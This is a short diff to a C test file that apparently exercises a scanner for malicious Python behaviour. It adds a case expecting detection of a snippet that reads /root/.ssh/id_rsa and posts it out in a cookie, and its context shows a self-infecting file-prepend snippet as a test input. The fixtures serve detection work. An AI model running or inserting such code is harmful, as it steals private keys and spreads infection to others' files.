@@ -107,6 +107,9 @@ static void steals(void)
 		    "  with open(n) as f:\n    old = f.readlines()\n"
 		    "  with open(n, 'w') as f:\n    f.writelines(own + old)",
 		    MPY_BEH_INFECT, 8));
+	CHECK(shows("import requests\ns = open('/root/.ssh/id_rsa').read()\n"
+		    "requests.post(u, cookies={'a': s})",
+		    MPY_BEH_SECRET_SEND, 3));
 	/* asking for one's address sends nothing, sending the answer does; */
 	CHECK(lacks("import requests\nrequests.get('https://ident.me')",
 		    MPY_BEH_ADDRESS_SEND));
